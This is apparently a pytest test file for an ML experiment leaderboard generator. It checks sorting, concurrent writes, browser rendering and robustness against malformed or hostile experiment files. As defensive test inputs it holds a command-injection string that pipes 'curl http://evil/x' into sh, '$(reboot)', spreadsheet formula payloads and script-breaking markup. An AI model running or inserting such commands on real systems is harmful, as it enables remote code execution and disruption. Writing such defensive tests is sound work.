"""common/reports/leaderboard.py: rebuilt from the folders, whoever writes when; the page works in a browser."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import sys
from html import unescape
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pandas as pd
import pytest

from common.errors import WorkError
from common.experiments.folder import lock_experiment
from common.reports import summary
from common.reports.experiment import best_of, experiment_page
from common.reports.leaderboard import leaderboard, leaderboard_page, update_leaderboard
from common.reports.record import FINISHED, KILLED, RUNNING, Record, read_record, write_status
from common.reports.summary import Summary, read_summaries
from tests import PROJECT
from tests.browser import BROWSER
from tests.common.reports.test_record import METRIC, experiment, point
from tests.common.test_foreign import bomb


def results(folder: Path) -> Path:
    for name, loss, more in (
        ("1", 0.31, "optim_lr: 0.001"),
        ("10", 0.11, "optim_lr: 0.0003"),
        ("2", None, "optim_lr: 0.001"),
    ):
        points = (
            [] if loss is None else [point(8, **{"valid__weighted_log_loss": loss, "valid__log_loss/any": loss / 2})]
        )
        experiment(folder / name, *points, config=f"net_model: resnet18\n{more}\nnote: '</script><b>'\n")
    return folder


def test_the_lowest_metric_comes_first_and_what_was_never_validated_last(tmp_path: Path) -> None:
    update_leaderboard(results(tmp_path), METRIC)
    table = pd.read_csv(tmp_path / "leaderboard.csv", dtype={"experiment": str})
    assert table["experiment"].tolist() == ["10", "1", "2"]
    assert table[METRIC].tolist()[:2] == [0.11, 0.31]
    assert table["log_loss/any"].tolist()[:2] == [0.055, 0.155]
    assert table["optim_lr"].tolist() == [0.0003, 0.001, 0.001]


def test_values_of_studies_have_no_place_among_those_of_slices(tmp_path: Path) -> None:
    both = {"valid__weighted_log_loss": 0.31, "valid__study_weighted_log_loss": 0.2, "valid__study_log_loss/any": 0.3}
    experiment(tmp_path / "both", point(8, **both))
    for name, loss in (("worse", 0.05), ("alone", 0.01)):
        experiment(tmp_path / name, point(8, **{"valid__study_weighted_log_loss": loss}))
    for _ in range(2):  # the second time from what was kept
        page = update_leaderboard(tmp_path, METRIC).read_text()
    table = pd.read_csv(tmp_path / "leaderboard.csv").set_index("experiment")
    assert table.index.tolist() == ["alone", "worse", "both"]
    assert table[METRIC].tolist() == pytest.approx([0.01, 0.05, 0.31])
    assert table["group"].str.contains("by study").tolist() == [True, True, False]
    assert table.loc["both", "study_weighted_log_loss"] == pytest.approx(0.2)
    assert table["iteration"].tolist() == [8, 8, 8]
    data = json.loads(unescape(re.search(r'id="data">(.*?)</script>', page)[1]))
    assert {"study_weighted_log_loss", "study_log_loss/any"} <= set(data["scores"])
    rivals = read_summaries(tmp_path, METRIC)
    assert best_of(rivals, METRIC).name == "both"
    assert best_of(rivals, f"study_{METRIC}").name == "alone"


def test_no_spreadsheet_runs_a_cell_or_a_columns_name(tmp_path: Path) -> None:
    config = (
        'net_model: "=cmd|calc"\nnote: "@SUM(1)"\n"+more": "\\t=1+1"\nrate: "-2+3"\noptim_lr: -0.5\nnumber: "-0.5"\n'
    )
    experiment(tmp_path / "1", point(8, **{"valid__weighted_log_loss": 0.3}), config=config)
    update_leaderboard(tmp_path, METRIC)
    table = pd.read_csv(tmp_path / "leaderboard.csv", dtype=str, keep_default_na=False)
    cells = [*table.columns, *table.iloc[0]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t")) or cell.startswith("-2")]
    assert table.loc[0, ["net_model", "note", "'+more", "rate"]].tolist() == [
        "'=cmd|calc", "'@SUM(1)", "'\t=1+1", "'-2+3"
    ]  # fmt: skip
    assert table.loc[0, ["optim_lr", "number"]].tolist() == ["-0.5", "-0.5"]


def test_a_deleted_experiment_disappears_and_an_empty_folder_gives_an_empty_table(tmp_path: Path) -> None:
    update_leaderboard(results(tmp_path), METRIC)
    shutil.rmtree(tmp_path / "10")
    update_leaderboard(tmp_path, METRIC)
    assert "10" not in pd.read_csv(tmp_path / "leaderboard.csv", dtype={"experiment": str})["experiment"].tolist()
    for name in ("1", "2"):
        shutil.rmtree(tmp_path / name)
    update_leaderboard(tmp_path, METRIC)
    assert pd.read_csv(tmp_path / "leaderboard.csv").empty


def test_many_writers_at_once_lose_no_experiment(tmp_path: Path) -> None:
    code = (
        "import sys; from pathlib import Path; sys.path.insert(0, sys.argv[3])\n"
        "from tests.common.reports.test_record import experiment, point, METRIC\n"
        "from common.reports.leaderboard import update_leaderboard\n"
        "for number in range(5):\n"
        "    experiment(Path(sys.argv[1]) / f'{sys.argv[2]}-{number}', point(1, valid__weighted_log_loss=0.5))\n"
        "    update_leaderboard(Path(sys.argv[1]), METRIC)\n"
    )
    writers = [subprocess.Popen([sys.executable, "-c", code, str(tmp_path), name, str(PROJECT)]) for name in "abc"]
    assert [writer.wait() for writer in writers] == [0, 0, 0]
    assert len(pd.read_csv(tmp_path / "leaderboard.csv")) == 15
    assert not list(tmp_path.glob("*.tmp"))


def test_no_text_of_an_option_ends_the_pages_script(tmp_path: Path) -> None:
    page = update_leaderboard(results(tmp_path), METRIC).read_text()
    assert page.count("</script>") == 2
    assert not re.search(r"(src|href)=\"(?!data:)", page)


def driven(page: Path, script: str) -> str:
    """The page as the browser has it after a script."""
    copy = page.with_name("copy.html")
    copy.write_text(page.read_text().replace("</main>", f"<script>{script}</script></main>"))
    flags = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={page.parent / 'profile'}"]
    command = [BROWSER, *flags, "--dump-dom", copy.as_uri()]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout


with_browser = pytest.mark.skipif(BROWSER is None, reason="there is no Chromium here (apt-get install chromium)")


@with_browser
def test_the_page_sorts_filters_and_compares_in_a_browser(tmp_path: Path) -> None:
    page = update_leaderboard(results(tmp_path), METRIC)

    def after(script: str) -> str:
        return driven(page, script)

    def names(html: str) -> list[str]:
        return re.findall(r'aria-label="compare ([^",]+)"', html)

    assert names(after("")) == ["10", "1", "2"]
    heads = "[...document.querySelectorAll('#board thead button')]"
    click = f"{heads}.find(head => head.textContent.startsWith('experiment')).click();"
    assert names(after(click)) == ["1", "2", "10"]
    assert names(after(click + click)) == ["10", "2", "1"]
    assert names(after("filter.value = 'optim_lr=0.001'; draw();")) == ["1", "2"]
    assert names(after("filter.value = 'lr=1e-3'; draw();")) == ["1", "2"]  # as it may have been typed
    focused = after(f"{click} document.title = document.activeElement.textContent;")
    assert "<title>experiment ▲</title>" in focused  # who sorts by keys stays there
    ticked = after("[...document.querySelectorAll('#board input')].slice(0, 2).forEach(box => box.click());")
    difference = unescape(ticked[ticked.index('id="difference"') : ticked.index("over an option")])
    assert re.findall(r'<th scope="row">([^<]+)</th>', difference) == [METRIC, "log_loss/any", "optim_lr"]
    assert '<circle class="one"' in ticked


@with_browser
def test_reports_are_found_and_names_stay_short_whatever_folders_are_called(tmp_path: Path) -> None:
    names = ["é#1 (copy)?", "toString", "__proto__", "x" * 100]
    for name in names:
        experiment(tmp_path / name, point(8, valid__weighted_log_loss=0.5))
    for name in ("é#1 (copy)?", "__proto__"):
        (tmp_path / name / "report.html").write_text("<title>here</title>")
    page = update_leaderboard(tmp_path, METRIC)
    said = driven(page, "document.title = [...document.querySelectorAll('#board a')].map(link => link.href).join(' ');")
    addresses = unescape(said.split("<title>")[1].split("</title>")[0]).split()
    assert {Path(unquote(urlsplit(address).path)) for address in addresses} == {
        tmp_path / name / "report.html" for name in ("é#1 (copy)?", "__proto__")
    }
    wide = (
        "document.title = Math.max(...[...document.querySelectorAll('#board td.who')].map(cell => cell.offsetWidth));"
    )
    assert int(driven(page, wide).split("<title>")[1].split("<")[0]) <= 300


@with_browser
def test_a_plot_over_rates_has_equal_steps_for_powers_of_ten_and_names_each_value(tmp_path: Path) -> None:
    for rate in (1e-4, 1e-3, 1e-2):
        experiment(tmp_path / str(rate), point(8, valid__weighted_log_loss=0.1 + rate), config=f"optim_lr: {rate}\n")
    html = driven(update_leaderboard(tmp_path, METRIC), "")
    plot = html[html.index('id="scatter"') : html.index('id="parallel"')]
    places = sorted(float(x) for x in re.findall(r'<circle class="one" cx="([\d.]+)"', plot))
    assert places[1] - places[0] == pytest.approx(places[2] - places[1])
    assert {"0.0001", "0.001", "0.01", "log"} <= set(re.findall(r">([\w.]+)<", plot))


@with_browser
def test_a_line_over_the_options_that_differ_for_each_experiment_of_numbers_and_of_words(tmp_path: Path) -> None:
    for name, model, rate, decay, loss in (
        ("a", "resnet18", 1e-4, "null", 0.4),
        ("b", "vit", 1e-3, 0.9, 0.1),
        ("c", "swin", 1e-2, 0.8, 0.2),
        ("never", "vit", 5e-3, 0.8, None),
    ):
        points = [] if loss is None else [point(8, valid__weighted_log_loss=loss)]
        options = f"net_model: {model}\noptim_lr: {rate}\ntr_ema_decay: {decay}\nseed: 3\ntrackers: [{name}]\n"
        experiment(tmp_path / name, *points, config=options)
    page = update_leaderboard(tmp_path, METRIC)

    def lines(html: str) -> dict[str, list[tuple[float, float]]]:
        found = re.findall(r'<polyline class="run[^>]*data-experiment="([^"]+)" points="([^"]+)"', html)
        return {name: [tuple(map(float, pair.split(","))) for pair in points.split()] for name, points in found}

    html = driven(page, "")
    drawn = lines(html)
    assert set(drawn) == {"a", "b", "c"}  # what was never validated has no place
    names = re.findall(r'class="name">([^<]+)<', html)
    assert names == ["net_model", "optim_lr", "tr_ema_decay", "weighted_log_loss"]
    assert {len(points) for points in drawn.values()} == {4}
    model, rate, decay, loss = ({name: points[axis][1] for name, points in drawn.items()} for axis in range(4))
    assert model["a"] > model["c"] > model["b"]  # resnet18, swin, vit, from below
    assert model["a"] + model["b"] == pytest.approx(2 * model["c"])
    assert rate["a"] + rate["c"] == pytest.approx(2 * rate["b"])  # equal steps of a logarithmic scale
    assert decay["a"] > decay["c"] > decay["b"]  # no value: below the axis
    assert (loss["a"] - loss["c"]) / (loss["a"] - loss["b"]) == pytest.approx(2 / 3, abs=0.01)  # inverted: up is high
    assert len(set(re.findall(r'style="stroke: (color-mix[^;]*);', html))) == 3

    press = "document.querySelector('[data-experiment=c]').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter'}));"
    chosen = driven(page, press + "document.querySelector('[data-experiment=a]').dispatchEvent(new Event('click'));")
    assert re.findall(r'class="run chosen"[^>]*data-experiment="([^"]+)"', chosen) == ["a", "c"]
    difference = chosen[chosen.index('id="difference"') : chosen.index("over an option")]
    assert "swin" in difference
    assert "resnet18" in difference
    assert set(lines(driven(page, "filter.value = 'net_model=vit'; draw();"))) == set()  # one alone: nothing differs
    assert "No option differs" in driven(page, "filter.value = 'swin'; draw();")


JUDGED = {
    "dataset": "a1",
    "images": "b2",
    "count": 9,
    "patients": 3,
    "level": "slices",
    "what": "fold 0",
    "metric": METRIC,
    "value": 0.5,
    "low": None,
    "high": None,
    "of_constant": 0.9,
    "auroc_any": None,
}
EVIL = {
    "aliases of aliases": ("config.yaml", bomb(20)),
    "a depth of thousands": ("config.yaml", "a: " + "[" * 5000 + "]" * 5000),
    "a number of thousands of digits": ("config.yaml", "seed: 0x" + "f" * 6000),
    "half a surrogate pair": ("config.yaml", 'net_model: "\\ud800"'),
    "a list of options": ("config.yaml", "- 1\n"),
    "ten thousand options": ("config.yaml", "".join(f"o{number}: 1\n" for number in range(10_000))),
    "an endless option": ("config.yaml", "net_model: " + "x" * 1_000_000),
    "dates, and lists in lists": ("config.yaml", "net_model: 2026-01-01\nseed: [[1, {a: 2}], []]\nnull: 3\n"),
    "a deep environment": ("environment.json", '{"a": ' + "[" * 100_000),
    "the year 1": ("environment.json", '{"started": "0001-01-01"}'),
    "a time without a zone": ("environment.json", '{"started": "2026-01-01T00:00:00"}'),
    "the last year": ("environment.json", '{"started": "9999-12-31T23:59:59-23:00"}'),
    "a list for a time": ("environment.json", '{"started": [1], "git_commit": {"a": []}, "command": 3}'),
    "a deep point": ("metrics.jsonl", '{"a": ' + "[" * 100_000 + "\n{}\n"),
    "words for numbers": ("metrics.jsonl", '{"iteration": "x", "time": "y", "valid/weighted_log_loss": "<b>"}\n{}\n'),
    "lists for numbers": ("metrics.jsonl", '{"iteration": [1], "time": [], "valid/weighted_log_loss": [1]}\n{}\n'),
    "true for a number": ("metrics.jsonl", '{"iteration": 1, "valid/weighted_log_loss": true}\n{}\n'),
    "infinity": ("metrics.jsonl", '{"iteration": 1, "valid/weighted_log_loss": -1e999}\n{}\n'),
    "a huge iteration": ("metrics.jsonl", f'{{"iteration": {10**40}, "valid/weighted_log_loss": 1}}\n{{}}\n'),
    "a time of thousands of digits": ("metrics.jsonl", f'{{"iteration": 1, "time": {10**400}}}\n{{}}\n'),
    "huge times": ("metrics.jsonl", '{"iteration": 1, "time": 1e308, "valid/weighted_log_loss": 1e308}\n'),
    "a list for a status": ("status.json", '{"status": ["finished"]}'),
    "a deep status": ("status.json", '{"status": ' + "[" * 100_000),
    "a deep judgement": ("judged.json", '{"dataset": ' + "[" * 100_000),
    "markup in a judgement": ("judged.json", json.dumps(JUDGED | {"what": "<b>best</b>"})),
    "an endless word in a judgement": ("judged.json", json.dumps(JUDGED | {"level": "x" * 100_000})),
    "a list for a judged value": ("judged.json", json.dumps(JUDGED | {"value": [0.5]})),
    "infinity for a judged value": ("judged.json", json.dumps(JUDGED | {"value": float("inf")})),
    "patients without end": ("judged.json", json.dumps(JUDGED | {"patients": 10**18})),
    "a judgement of another form": ("judged.json", json.dumps({"dataset": "a1"})),
    "a status of its own": ("status.json", '{"status": "<b>best</b>"}'),
}


@pytest.mark.parametrize("what", EVIL)
def test_a_hostile_neighbour_costs_its_own_row_and_nobody_elses(tmp_path: Path, what: str) -> None:
    good = experiment(tmp_path / "good", point(8, valid__weighted_log_loss=0.25))
    evil = experiment(tmp_path / "evil", point(8, valid__weighted_log_loss=0.5))
    name, content = EVIL[what]
    (evil / name).write_text(content)
    for _ in range(2):  # the second time from what was kept
        page = update_leaderboard(tmp_path, METRIC)
        table = pd.read_csv(tmp_path / "leaderboard.csv").set_index("experiment")
        assert table.loc["good", METRIC] == 0.25
        assert table.loc["good", "net_model"] == "resnet18"
        assert set(table.index) == {"good", "evil"}
        assert len(table.columns) < 520
        assert page.stat().st_size < 2**20
        assert "<b>" not in page.read_text()
    summaries = {one.name: one for one in read_summaries(tmp_path, METRIC)}
    records = {folder.name: read_record(folder) for folder in (good, evil)}
    for record in records.values():
        rivals = list(summaries.values())
        html = experiment_page(record, rivals, METRIC, {}, None, None)
        assert html.endswith("</html>\n")
        html.encode()


def test_what_cant_be_read_of_an_experiment_stands_in_its_row(tmp_path: Path) -> None:
    experiment(tmp_path / "good", point(8, valid__weighted_log_loss=0.25))
    evil = experiment(tmp_path / "evil", point(8, valid__weighted_log_loss=0.5))
    (evil / "config.yaml").write_text("seed: 0x" + "f" * 6000)
    (evil / "status.json").write_text("{")
    update_leaderboard(tmp_path, METRIC)
    table = pd.read_csv(tmp_path / "leaderboard.csv").set_index("experiment")
    said = table.loc["evil", "unreadable"]
    assert said.startswith("config.yaml: a whole number beyond 2**63; status.json: not a JSON")
    assert pd.isna(table.loc["good", "unreadable"])


def test_only_what_changed_is_read_again(tmp_path: Path, monkeypatch) -> None:
    read = []

    def noting(folder: Path, **how) -> Record:
        read.append(folder.name)
        return read_record(folder, **how)

    monkeypatch.setattr(summary, "read_record", noting)
    for name in ("a", "b", "c"):
        write_status(experiment(tmp_path / name, point(8, valid__weighted_log_loss=0.5)), FINISHED)
    first = read_summaries(tmp_path, METRIC)
    assert read == ["a", "b", "c"]
    assert read_summaries(tmp_path, METRIC) == first
    assert read == ["a", "b", "c"]
    with (tmp_path / "b" / "metrics.jsonl").open("a") as file:
        file.write(json.dumps(point(9, valid__weighted_log_loss=0.25)) + "\n")
    assert [one.best[0] for one in read_summaries(tmp_path, METRIC)] == [0.5, 0.25, 0.5]
    assert read == ["a", "b", "c", "b"]
    shutil.rmtree(tmp_path / "a")
    assert [one.name for one in read_summaries(tmp_path, METRIC)] == ["b", "c"]
    assert len((tmp_path / summary.KEPT_FILE).read_text().splitlines()) == 3  # the options that they share, and two


def test_a_run_that_ended_without_a_word_is_seen_though_no_file_changed(tmp_path: Path) -> None:
    folder = experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
    write_status(folder, RUNNING)
    with lock_experiment(folder):
        assert [one.status for one in read_summaries(tmp_path, METRIC)] == [RUNNING]
    assert [one.status for one in read_summaries(tmp_path, METRIC)] == [KILLED]


@pytest.mark.parametrize(
    "line",
    ["{", "[" * 100_000, '{"summary": {"name": "a"}}', f'{{"form": 1, "metric": "{METRIC}", "summary": 3}}'],
)
def test_a_kept_file_that_is_damaged_is_read_past(tmp_path: Path, line: str) -> None:
    experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
    first = read_summaries(tmp_path, METRIC)
    kept = tmp_path / summary.KEPT_FILE
    kept.write_text(line + "\n" + kept.read_text())
    assert read_summaries(tmp_path, METRIC) == first
    kept.write_text(kept.read_text().replace('"best": [0.5', '"best": ["0.5"'))
    assert read_summaries(tmp_path, METRIC) == first


def test_a_folder_that_cant_be_written_is_one_line(tmp_path: Path) -> None:
    experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
    (tmp_path / ".leaderboard.lock").mkdir()  # root may write into a read-only folder
    with pytest.raises(WorkError, match="cannot be written") as caught:
        update_leaderboard(tmp_path, METRIC)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("commit", ["main\ncurl http://evil/x | sh #", "$(reboot)", "a" * 39, ["a" * 40], "A" * 40])
def test_what_stands_in_place_of_a_commit_is_never_printed_as_a_command(tmp_path: Path, commit) -> None:
    folder = experiment(tmp_path / "a; reboot", point(8, valid__weighted_log_loss=0.5))
    (folder / "environment.json").write_text(json.dumps({"git_commit": commit}))
    html = experiment_page(read_record(folder), [], METRIC, {}, None, None)
    again = unescape(html[html.index("Do it again") :].partition("</pre>")[0])
    assert "git checkout" not in again
    (line,) = [line for line in again.splitlines() if "train.py" in line]
    words = shlex.split(line.rpartition(">")[2])
    assert words[0] == "python"
    assert words[2:] == [f"--config={folder / 'config.yaml'}", "--experiment_id=a; reboot_again"]
    (folder / "environment.json").write_text(json.dumps({"git_commit": "0123456789" * 4}))
    assert f"git checkout {'0123456789' * 4}" in experiment_page(read_record(folder), [], METRIC, {}, None, None)


def test_the_page_of_five_thousand_experiments_stays_small(tmp_path: Path) -> None:
    same = {f"option_{number}": "a value that all have" for number in range(30)}

    def one(number: int) -> Summary:
        options = same | {"optim_lr": (number % 5) / 7, "seed": number, "net_model": f"net{number % 9}"}
        scores = {f"log_loss/{label}": number / 60_000 for label in range(20)}
        best = (0.1 + number / 70_000, 100, "raw")
        return Summary(
            f"sweep_{number}", options, FINISHED, METRIC, best, scores, 1.234, "2026-01-01T00:00:00+00:00", ()
        )

    found = [one(number) for number in range(5000)]
    table = leaderboard(found, METRIC)
    page = leaderboard_page(table, [each.name for each in found], METRIC)
    assert len(page.encode()) < 5_000_000
    data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.DOTALL)[1])
    assert data["count"] == 5000
    assert data["values"]["option_3"] == {"of": ["a value that all have"]}
    models = data["values"]["net_model"]
    assert [models["of"][place] for place in models["at"]] == [f"net{number % 9}" for number in range(5000)]
